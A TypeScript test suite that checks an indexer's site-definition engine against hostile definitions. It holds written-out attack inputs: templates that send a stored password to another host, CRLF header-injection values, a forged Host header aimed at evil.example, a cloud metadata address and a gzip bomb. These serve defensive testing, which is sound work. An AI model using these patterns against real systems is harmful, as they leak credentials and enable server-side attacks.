import {gzipSync} from 'node:zlib';
import test, {type ExecutionContext} from 'ava';
import {createDefinitionThread} from '#shared/definitions/definition-thread.ts';
import type {UpstreamFailed} from '#shared/errors.ts';
import {account, type PrivateSite, privateSite, type SiteParts, siteDefinition} from '#test/helpers/fakes/private-site.ts';
import {indexerDeps, indexerSettings, leavesCookie, movieSearch} from '#test/helpers/indexer-fixtures.ts';
import {serveHttp} from '#test/helpers/serve-http.ts';
import {siteDeps} from '#test/helpers/site-deps.ts';
import {withHttp} from '#test/helpers/with-http.ts';
import {downloadFromSite} from '#workers/integrations/indexers/definition/download-from-site.ts';
import type {IndexerDeps} from '#workers/integrations/indexers/indexer.ts';
import {openIndexer} from '#workers/integrations/indexers/open-indexer.ts';

const {signal} = new AbortController();

async function withSite(
	t: ExecutionContext,
	parts: SiteParts | ((site: PrivateSite) => SiteParts) = {},
	{
		settings = account,
		deps = {},
		...more
	}: {settings?: Record<string, string>; deps?: Partial<IndexerDeps>; captcha?: boolean; timeoutSeconds?: number} = {},
) {
	const site = await privateSite(t);
	const text = siteDefinition(site.url, typeof parts === 'function' ? parts(site) : parts);
	const sites = await siteDeps(t, {meadow: text}, createDefinitionThread({limitMs: 1000}));
	const indexer = openIndexer(
		indexerSettings({kind: 'definition', url: site.url, definition: 'meadow', settings, ...more}),
		indexerDeps(t, {sites, ...deps}),
	);
	return {site, indexer};
}

/** Another server, and what it heard. */
async function stranger(t: ExecutionContext) {
	const heard: string[] = [];
	const url = await serveHttp(t, (request, response) => {
		heard.push(`${request.url} ${JSON.stringify(request.headers)}`);
		response.end();
	});
	return {url, heard};
}

test('a definition sends nothing to other hosts, whatever it writes', async t => {
	const {url, heard} = await stranger(t);
	const evil = `${url}/take/{{ .Config.password }}`;
	const places: SiteParts[] = [
		{login: `login: {method: get, path: "${evil}"}`},
		{login: `login: {method: post, path: "${evil}", inputs: {p: "{{ .Config.password }}"}}`},
		{login: `login: {method: form, path: enter, form: form#in, submitpath: "${evil}"}`},
		{
			login: 'login: {method: cookie}',
			settings: '  - {name: cookie, type: text}\n  - {name: password, type: text}',
			paths: `[{path: "${evil}"}]`,
		},
	];
	for (const parts of places) {
		const {indexer} = await withSite(t, parts, {settings: {...account, cookie: 'member=1'}});
		const error = await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'other_host'});
		t.regex(error.message, /127\.0\.0\.1:\d+, which is not the site that was entered/);
		t.false(error.message.includes('correct horse'));
	}
	const moved = await withSite(t, ({url: own}) => ({head: `legacylinks: ["${own}"]`, login: ''}));
	await moved.indexer.search(movieSearch(), signal).catch(() => null);
	t.deepEqual(heard, []);
});

test('a definition that replaces the address by another host waits for a person', async t => {
	const {url, heard} = await stranger(t);
	const site = await privateSite(t);
	const text = siteDefinition(url, {head: `legacylinks: ["${site.url}"]`, login: ''});
	const indexer = openIndexer(
		indexerSettings({kind: 'definition', url: site.url, definition: 'meadow', settings: account}),
		indexerDeps(t, {sites: await siteDeps(t, {meadow: text})}),
	);
	await t.throwsAsync(indexer.recent(signal), {code: 'other_host', message: /an old address of its site, which is now at/});
	t.deepEqual([...heard, ...site.paths()], []);
});

test('no cookie follows a redirect to another host', async t => {
	const {url, heard} = await stranger(t);
	const {site, indexer} = await withSite(t, {paths: '[{path: list, followredirect: true}]'});
	site.answer = ({path}, response) => path === '/list' && Boolean(response.writeHead(302, {location: `${url}/list`}).end());
	await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'other_host'});
	t.deepEqual(heard, []);
});

test('a private address is only for the host that a person entered', async t => {
	const {indexer} = await withSite(t, {}, {deps: {network: 'public'}});
	await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'address_refused'});
	const parts = {login: '', settings: '  - {name: apiurl, type: text}', paths: '[{path: "http://{{ .Config.apiurl }}/list"}]'};
	for (const apiurl of ['localhost', '169.254.169.254', '10.0.0.1']) {
		const api = await withSite(t, parts, {settings: {apiurl}});
		await t.throwsAsync(api.indexer.search(movieSearch(), signal), {code: 'address_refused'}, apiurl);
	}
});

test('a line break in a setting begins no header', async t => {
	const parts = {
		login: '',
		settings: '  - {name: key, type: text}',
		search: '  headers: {Authorization: ["Bearer {{ .Config.key }}"]}',
	};
	const {site, indexer} = await withSite(t, parts, {settings: {key: 'a\r\nX-Evil: 1'}});
	const error = await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'definition_unusable'});
	t.regex(error.message, /a secret setting does not fit where the definition uses it/);
	t.deepEqual(site.paths(), []);
	const cookie = await withSite(
		t,
		{login: 'login: {method: cookie}', settings: '  - {name: cookie, type: text}'},
		{settings: {cookie: 'a=1\nX: 1'}},
	);
	await t.throwsAsync(cookie.indexer.search(movieSearch(), signal), {code: 'definition_unusable'});
});

test('a page may be neither endless nor a bomb', async t => {
	const bomb = gzipSync(Buffer.alloc(40 * 1024 * 1024, 'x'));
	const packed = await withSite(t, {login: ''});
	packed.site.answer = (_heard, response) => Boolean(response.writeHead(200, {'content-encoding': 'gzip'}).end(bomb));
	await t.throwsAsync(packed.indexer.search(movieSearch(), signal), {code: 'too_large'});
	const deep = await withSite(t, {login: ''});
	deep.site.answer = (_heard, response) => Boolean(response.end('<div>'.repeat(200_000)));
	await t.throwsAsync(deep.indexer.search(movieSearch(), signal), {code: 'definition_unusable', message: /takes longer|memory|too deeply/});
	deep.site.answer = (_heard, response) =>
		Boolean(response.end('<table><tr class="one"><td><a class="t">Tide</a><a class="get" href="/f">x</a></table>'));
	t.is((await deep.indexer.recent(signal)).length, 1, 'the thread reads on');
});

test('a slow page takes no longer than the indexer may', async t => {
	const {site, indexer} = await withSite(t, {login: ''}, {timeoutSeconds: 1, deps: {http: withHttp(t, {leastMs: 0})}});
	site.answer = (_heard, response) => response.write('<html>');
	await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'timed_out'});
});

test('redirects in a circle end', async t => {
	const {site, indexer} = await withSite(t, {login: '', paths: '[{path: list, followredirect: true}]'});
	site.answer = (_heard, response) => Boolean(response.writeHead(302, {location: '/list'}).end());
	await t.throwsAsync(indexer.search(movieSearch(), signal), {code: 'site_moved'});
	t.true(site.heard.length <= 6);
});

test('a challenge is solved below every request, with the cookies of both', async t => {
	const {site, indexer} = await withSite(t, {}, {captcha: true, deps: {solver: leavesCookie('clear', 'yes')}});
	site.answer = ({headers}, response) =>
		!headers.cookie?.includes('clear=yes') &&
		Boolean(response.writeHead(503, {server: 'cloudflare', 'cf-mitigated': 'challenge'}).end('<title>Just a moment...</title>'));
	t.is((await indexer.search(movieSearch(), signal)).length, 1);
	const last = site.heard.at(-1)?.headers;
	t.regex(last?.cookie ?? '', /member=.*clear=yes/);
	t.is(last?.['user-agent'], 'Browser/1');
});

test('the delay that a site asks for is a floor, for each of its requests', async t => {
	const seconds: (number | undefined)[] = [];
	let underWay = 0;
	const {indexer} = await withSite(
		t,
		{head: 'requestDelay: 2.5'},
		{
			deps: {
				async takeSlot(_id, _signal, least) {
					seconds.push(least);
					t.is(underWay, 0, 'the request before has ended');
					underWay += 1;
					return () => {
						underWay -= 1;
					};
				},
			},
		},
	);
	await indexer.search(movieSearch(), signal);
	t.deepEqual([seconds, underWay], [[2.5, 2.5, 2.5], 0]);
});

test('titles and settings of others are no templates', async t => {
	const {site, indexer} = await withSite(t, {caps: 'allowrawsearch: true'});
	await indexer.search(movieSearch({title: '{{ .Config.password }}'}), signal);
	t.is(site.heard.at(-1)?.query.get('q'), '{{ .Config.password }} 2019');
});

test('a definition has no say in what belongs to the connection', async t => {
	const search =
		'  headers: {Host: [evil.example], Content-Length: ["5"], Transfer-Encoding: [chunked], X-Own: ["{{ .Config.username }}"]}';
	const {site, indexer} = await withSite(t, {login: '', search}, {settings: {username: 'вера'}});
	site.answer = (_heard, response) => Boolean(response.end());
	await indexer.search(movieSearch(), signal);
	const headers = site.heard[0]?.headers;
	t.is(headers?.host, new URL(site.url).host);
	t.is(headers?.['transfer-encoding'], undefined);
	t.is(Buffer.from(String(headers?.['x-own']), 'latin1').toString(), 'вера');
});

test('a site that was entered with https is never asked without', async t => {
	const asked: string[] = [];
	const reply = {status: 200, headers: {}, cookies: [], body: Buffer.from('')};
	const http: IndexerDeps['http'] = async ({url}) => {
		asked.push(String(url));
		return {...reply, url: String(url)};
	};
	const text = siteDefinition('https://meadow.test', {login: '', paths: '[{path: "http://meadow.test/list"}]'});
	const deps = indexerDeps(t, {http, sites: await siteDeps(t, {meadow: text})});
	await openIndexer(
		indexerSettings({kind: 'definition', url: 'https://meadow.test', definition: 'meadow', settings: account}),
		deps,
	).recent(signal);
	t.deepEqual(asked, ['https://meadow.test/list']);
});

test('the name of a host tells no secret to whoever reads the failure', async t => {
	const settings = {...account, password: 'Correct-Horse-9'};
	const {indexer} = await withSite(t, {login: '', paths: '[{path: "http://{{ .Config.password }}.other.example/"}]'}, {settings});
	const error = await t.throwsAsync<UpstreamFailed>(indexer.search(movieSearch(), signal), {code: 'other_host'});
	t.deepEqual(error.links, []);
	t.notRegex(error.message, /correct-horse/i);
	const spelled = '[{path: \'http://{{ re_replace .Config.password "(.)" "$1." }}other.example/\'}]';
	const bySpelling = await withSite(t, {login: '', paths: spelled}, {settings});
	const refused = await t.throwsAsync<UpstreamFailed>(bySpelling.indexer.search(movieSearch(), signal), {code: 'other_host'});
	t.notRegex(refused.message, /c.o.r.r|horse/i);
	const field = '    details: {text: "http://{{ .Config.password }}.other.example/"}';
	const found = await withSite(t, {login: '', download: field}, {settings});
	found.site.answer = (_heard, response) =>
		Boolean(response.end('<table><tr class="one"><td><a class="t" href="/page">Tide</a><a class="get" href="/f">x</a></table>'));
	const [release] = await found.indexer.recent(signal);
	t.is(release?.infoUrl, `${found.site.url}/page`);
});

test('a key in the address of a site is a secret, too', async t => {
	const {url, heard} = await stranger(t);
	const site = await privateSite(t);
	const text = siteDefinition(site.url, {
		login: '',
		download: `download: {selectors: [{selector: a, filters: [{name: prepend, args: "${url}/{{ .Config.sitelink }}"}]}]}`,
	});
	const sites = await siteDeps(t, {meadow: text});
	const settings = indexerSettings({kind: 'definition', url: `${site.url}/0123456789abcdef/`, definition: 'meadow', settings: {}});
	const deps = {...indexerDeps(t, {sites}), sites};
	site.answer = (_heard, response) => Boolean(response.end('<a href="/x">x</a>'));
	await t.throwsAsync(downloadFromSite(`${site.url}/t/1`, settings, deps, signal), {code: 'other_host'});
	t.deepEqual(heard, []);
});
